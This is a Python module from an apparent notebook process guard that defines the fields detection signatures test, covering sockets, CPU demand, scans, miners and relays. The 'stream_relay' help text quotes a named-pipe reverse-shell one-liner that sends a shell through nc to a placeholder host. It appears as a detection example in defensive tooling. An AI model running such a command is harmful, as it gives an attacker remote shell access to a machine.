"""The named fields a signature's conditions can test, derived from a Process.

Each field has a type, which decides the operators it accepts. List fields
match when any element does. Text is cut to ``MAX_TEXT`` characters before
matching so a hostile 1 MB command line cannot slow the engine down.
"""

from __future__ import annotations

from collections import Counter
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any

from ..observe.model import Process, network_block

MAX_TEXT = 8192


def _basename(path: str) -> str:
    return path.rstrip("/").rsplit("/", 1)[-1] if path else ""


def _cut(text: str) -> str:
    return text[:MAX_TEXT]


@dataclass(frozen=True)
class Field:
    name: str
    kind: str  # "text", "number", "bool", "text list", "number list"
    help: str
    read: Callable[[Process], Any]


def _remote_endpoints(p: Process) -> set[tuple[str, int]]:
    return {s.remote for s in p.sockets if s.remote is not None}


_LOOPBACK = ("127.", "::1", "localhost")


def _public_listen_ports(p: Process) -> list[int]:
    """Ports listening on an address other hosts can reach (0.0.0.0, ::, a real address)."""
    return sorted({s.local_port for s in p.sockets
                   if s.listening and not s.local_ip.startswith(_LOOPBACK)})


def _inbound_peer_hosts(p: Process) -> int:
    """Distinct remote addresses connected to one of the process's listening ports."""
    listening = {s.local_port for s in p.sockets if s.protocol == "tcp" and s.listening}
    return len({s.remote_ip for s in p.sockets
                if s.remote_ip is not None and s.local_port in listening})


def _outbound(p: Process) -> set[tuple[str, int]]:
    """Remote endpoints of the connections the process opened (not accepted on a listening
    port: a server's clients connect from many ports, which is no scan)."""
    listening = {s.local_port for s in p.sockets if s.protocol == "tcp" and s.listening}
    return {s.remote for s in p.sockets
            if s.remote is not None and s.local_port not in listening}


def _outbound_peers(p: Process) -> int:
    return len(_outbound(p))


def _connecting_hosts(p: Process) -> set[str]:
    return {s.remote_ip for s in p.sockets
            if s.protocol == "tcp" and s.status == "SYN_SENT" and s.remote_ip}


def _connecting_share(p: Process) -> int:
    hosts = {host for host, _ in _outbound(p)}
    return 100 * len(_connecting_hosts(p) & hosts) // len(hosts) if hosts else 0


def _connecting_in_one_block(p: Process) -> int:
    blocks = Counter(network_block(host) for host in _connecting_hosts(p))
    return max(blocks.values(), default=0)


FIELDS: dict[str, Field] = {
    f.name: f
    for f in [
        Field("name", "text", "process name (comm); tools may rename themselves", lambda p: _cut(p.name)),
        Field("exe", "text", "full path of the executable", lambda p: _cut(p.exe)),
        Field("exe_name", "text", "file name of the executable", lambda p: _basename(p.exe)),
        Field("argv0", "text", "file name in the first command line word",
              lambda p: _basename(p.cmdline[0]) if p.cmdline else ""),
        Field("cmdline", "text", "the command line, words joined by spaces",
              lambda p: _cut(" ".join(p.cmdline))),
        Field("args", "text list", "each command line word after the first",
              lambda p: [_cut(a) for a in p.cmdline[1:64]]),
        Field("cpu_percent", "number", "CPU use over the last interval, percent of one core",
              lambda p: p.cpu_percent),
        Field("rss_mb", "number", "resident memory in MiB", lambda p: p.rss / 2**20),
        Field("threads", "number", "number of threads", lambda p: p.threads),
        Field("is_kernel", "bool", "true for the kernel process itself", lambda p: p.is_kernel),
        Field("libraries", "text list", "file names of the shared objects the process has mapped",
              lambda p: [_basename(lib) for lib in p.libraries]),
        Field("remote_ports", "number list", "remote ports of connected sockets",
              lambda p: sorted({port for _, port in _remote_endpoints(p)})),
        Field("remote_hosts", "text list", "remote addresses of connected sockets",
              lambda p: sorted({ip for ip, _ in _remote_endpoints(p)})),
        Field("listen_ports", "number list", "local ports listening (TCP) or bound unconnected (UDP)",
              lambda p: sorted({s.local_port for s in p.sockets if s.listening})),
        Field("established", "number", "TCP connections in state ESTABLISHED",
              lambda p: sum(1 for s in p.sockets if s.protocol == "tcp" and s.status == "ESTABLISHED")),
        Field("stream_sockets", "number",
              "inet sockets the process holds on its standard streams (stdin, stdout, stderr): "
              "a shell whose input and output are a network connection",
              lambda p: sum(1 for s in p.sockets if s.stream)),
        Field("stream_relay", "text",
              "for a shell whose stdin and stdout (or stderr) are pipes or FIFOs: the name of a "
              "process holding a connection that its output reaches and that feeds its input "
              "back, through pipes and FIFOs of at most four processes of its kernel's tree "
              "(`cat f | sh -i 2>&1 | nc HOST PORT > f`: nc); neither the kernel nor the "
              "shell's ancestors (a program driving a shell it started) count; '' if none",
              lambda p: p.stream_relay),
        Field("peers", "number", "distinct remote endpoints (address and port)",
              lambda p: len(_remote_endpoints(p))),
        Field("peer_hosts", "number", "distinct remote addresses", lambda p: len({ip for ip, _ in _remote_endpoints(p)})),
        Field("sockets", "number", "inet sockets held", lambda p: len(p.sockets)),
        Field("gpu_percent", "number", "GPU (SM) utilisation of the process, percent, from NVML",
              lambda p: p.gpu_percent),
        Field("gpu_memory_mb", "number", "GPU memory the process holds, MiB", lambda p: p.gpu_memory_mb),
        Field("exe_markers", "text list",
              "known tools recognised in the executable's content (and an interpreter's script, "
              "its memory, the libraries it maps), "
              "whatever the file is called; see colab_guard/observe/content.py",
              lambda p: list(p.exe_markers)),
        Field("open_files", "text list", "paths of the regular files the process has open",
              lambda p: [_cut(f) for f in p.open_files[:256]]),
        Field("library_paths", "text list", "full paths of the shared objects the process has mapped",
              lambda p: [_cut(lib) for lib in p.libraries]),
        Field("public_listen_ports", "number list",
              "listening ports bound to an address other hosts can reach (not loopback)",
              _public_listen_ports),
        Field("inbound_peer_hosts", "number",
              "distinct remote addresses connected to one of the process's listening ports",
              _inbound_peer_hosts),
        Field("peer_ports", "number", "distinct remote ports of connected sockets",
              lambda p: len({port for _, port in _remote_endpoints(p)})),
        Field("connecting", "number", "TCP connections still being opened (SYN_SENT)",
              lambda p: sum(1 for s in p.sockets if s.protocol == "tcp" and s.status == "SYN_SENT")),
        Field("outbound_peers", "number",
              "distinct remote endpoints of connections the process opened (not ones it accepted "
              "on a listening port)", _outbound_peers),
        Field("network_namespace", "text",
              "'shared' (the guard's own network namespace), 'private' (another: its sockets "
              "are read from /proc/PID/net) or 'unreadable'",
              lambda p: "shared" if not p.netns else
              "unreadable" if p.netns == "unreadable" else "private"),
        Field("cpu_demand_percent", "number",
              "CPU the process's threads ran or waited to run for, averaged over the behaviour "
              "window (15 s), percent of one core; 0 until watched that long. For a process "
              "holding an outbound connection, its family's: its threads and those of its "
              "descendants that hold no outbound connection of their own (workers it started)",
              lambda p: p.cpu_demand_percent),
        Field("cpu_demand_steady_percent", "number",
              "the lowest CPU demand (as cpu_demand_percent) over any slice of the behaviour "
              "window between two samples, a fifteenth of it or longer (1 s of 15 s): steady "
              "work, such as a throttled miner's, keeps it up; work in bursts does not",
              lambda p: p.cpu_demand_steady_percent),
        Field("pushed_connections", "number",
              "outbound TCP connections open through the behaviour window, carrying little, on "
              "which the peer sent data unprompted at least twice (a mining pool's jobs)",
              lambda p: p.pushed_connections),
        Field("foreign_peers", "number",
              "for a process listening on a TCP port: distinct remote endpoints of connections "
              "it opened to endpoints that none of the user's kernels serves (its own servers "
              "left out: a lab's nodes connected to each other are no swarm)",
              lambda p: p.foreign_peers),
        Field("kernel_ports_tried", "number",
              "distinct ports of at most two hosts that the kernel's processes (the kernel "
              "included, refused connections too where the kernel hook reports them) opened "
              "connections to within the scan window (10 s), where this process tried one",
              lambda p: p.kernel_ports_tried),
        Field("kernel_hosts_unanswered", "number",
              "distinct hosts the kernel's processes tried within the scan window that never "
              "answered (seen only half-open), where this process tried one",
              lambda p: p.kernel_hosts_unanswered),
        Field("outbound_ports", "number",
              "distinct remote ports of connections the process opened (not ones it accepted)",
              lambda p: len({r[1] for r in _outbound(p)})),
        Field("outbound_hosts", "number",
              "distinct remote addresses of connections the process opened",
              lambda p: len({r[0] for r in _outbound(p)})),
        Field("connecting_share", "number",
              "percent of outbound_hosts the process is still connecting to (SYN_SENT): a "
              "sweep's hosts mostly never answer, a crawler's dead links are a few among "
              "sites that do", _connecting_share),
        Field("connecting_in_one_block", "number",
              "the most hosts the process is still connecting to (SYN_SENT) in one network "
              "block (an IPv4 /16, an IPv6 /64): a sweep goes through a network address by "
              "address, a crawler's dead links are scattered", _connecting_in_one_block),
        Field("imports", "text list",
              "the kernel process only: top-level modules the kernel hook saw the kernel "
              "import (empty without the hook, and for other processes)",
              lambda p: list(p.imports)),
        Field("listening_modules", "text list",
              "the kernel process only: top-level modules whose code was on the stack when "
              "the kernel bound a port it now listens on (reported by the kernel hook; its own "
              "Jupyter ports left out): asyncssh for an SSH server, pproxy for a proxy",
              lambda p: list(p.listening_modules)),
        Field("served_ports", "number list",
              "TCP ports the process listens on; for the kernel, those its Python code bound "
              "(its own Jupyter sockets left out: with the kernel hook, every port no Python code "
              "bound; without it, its connection file's)",
              lambda p: sorted({s.local_port for s in p.sockets if s.protocol == "tcp"
                                and s.listening and s.local_port not in p.own_ports})),
        Field("kernel_relayed_connections", "number",
              "inbound TCP connections of the kernel's processes (its own Jupyter ports left "
              "out) that were relayed within 30 s: an outbound connection of the kernel to an "
              "endpoint none of the user's kernels serves carried the same bytes each way "
              "(16 KiB or more), where this process holds one side",
              lambda p: p.kernel_relayed_connections),
        Field("kernel_refused_attempts", "number",
              "refused connection attempts (TCP AttemptFails, ICMP port unreachable) counted "
              "in the process's network namespace within the scan window (10 s) at the ticks "
              "when only this kernel's processes there held new sockets that no socket table "
              "lists, at 3 ticks or more, where this process was one of them",
              lambda p: p.kernel_refused_attempts),
        Field("kernel_slow_connections", "number",
              "half-open or silent (nothing received for 5 s) outbound TCP connections of all "
              "the kernel's processes to one endpoint none of the user's kernels serves, where "
              "this process holds one", lambda p: p.kernel_slow_connections),
    ]
}

#: Which operators each kind of field accepts, and what type their operand has.
OPERATORS: dict[str, dict[str, type | tuple[type, ...]]] = {
    "text": {"equals": str, "in": list, "regex": str, "contains": str},
    "text list": {"equals": str, "in": list, "regex": str, "contains": str},
    "number": {"equals": (int, float), "gte": (int, float), "gt": (int, float),
               "lte": (int, float), "lt": (int, float)},
    "number list": {"equals": int, "in": list, "gte": (int, float), "lte": (int, float)},
    "bool": {"equals": bool},
}


class FieldView:
    """Fields of one process, computed on first use."""

    __slots__ = ("process", "_cache")

    def __init__(self, process: Process):
        self.process = process
        self._cache: dict[str, Any] = {}

    def __getitem__(self, name: str) -> Any:
        if name not in self._cache:
            self._cache[name] = FIELDS[name].read(self.process)
        return self._cache[name]


#: What is known of a program a cell would start, before it starts: its command line.
KNOWN_BEFORE_START = frozenset({"name", "exe", "exe_name", "argv0", "cmdline", "args", "is_kernel"})


class PendingView(FieldView):
    """Fields of a program that has not started yet (read from a cell's command): its name
    and command line are known, everything it would do (sockets, CPU, memory, content,
    files, libraries) is not. A test on an unknown field is false for a signature and true
    for an allow rule (``optimistic``): the cell is refused only for what is certain, and the
    sampler still checks the real process."""

    __slots__ = ("unknown", "optimistic")

    def __init__(self, process: Process, optimistic: bool = False):
        super().__init__(process)
        self.optimistic = optimistic
        known = set(KNOWN_BEFORE_START)
        if not process.exe:
            known.discard("exe")
        self.unknown = frozenset(FIELDS) - known

    def __getitem__(self, name: str) -> Any:
        if name == "exe_name" and not self.process.exe:
            return _basename(self.process.cmdline[0]) if self.process.cmdline else ""
        return super().__getitem__(name)
